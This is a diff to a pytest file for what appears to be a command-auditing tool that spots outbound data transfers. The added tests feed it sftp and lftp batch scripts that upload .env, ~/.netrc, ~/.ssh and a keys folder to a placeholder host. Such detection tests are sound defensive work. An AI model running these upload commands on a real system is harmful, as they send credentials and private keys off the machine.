@@ -8,8 +8,9 @@ import pytest
 
 from audit._model import Span
 from audit.programs import Arg
+from audit.programs._transfer_senders import batch_uploads
 from audit.programs.destinations import Destination, Form, Host, destination_hosts, url_credential_parts
-from audit.programs.sending import Slot, sent_data, sftp_uploads
+from audit.programs.sending import Slot, sent_data
 
 
 def args(*values: str) -> tuple[Arg, ...]:
@@ -147,7 +148,14 @@ def test_ssh_and_sftp_send_their_standard_input_and_sftp_batches_upload() -> Non
     assert ssh is not None and ssh.stdin == ("ssh",)
     sftp = sent_data("sftp", args("h.example"))
     assert sftp is not None and sftp.batch_uploads
-    assert sftp_uploads("cd /tmp\nput .env\n-put -r keys remote/\nget x\n") == [".env", "keys"]
+    assert batch_uploads("cd /tmp\nput .env\n-put -r keys remote/\nget x\n") == [".env", "keys"]
+
+
+def test_transfer_scripts_split_on_semicolons_and_a_reverse_mirror_uploads_its_directory() -> None:
+    assert batch_uploads("open ftp://h.example; put ~/.netrc; get x") == ["~/.netrc"]
+    assert batch_uploads("mirror -R ~/.ssh /in; mirror pub local") == ["~/.ssh"]
+    lftp = sent_data("lftp", args("-c", "open ftp://h.example; put .env"))
+    assert lftp is not None and [file.arg.value for file in lftp.files] == [".env"]
 
 
 @pytest.mark.parametrize(
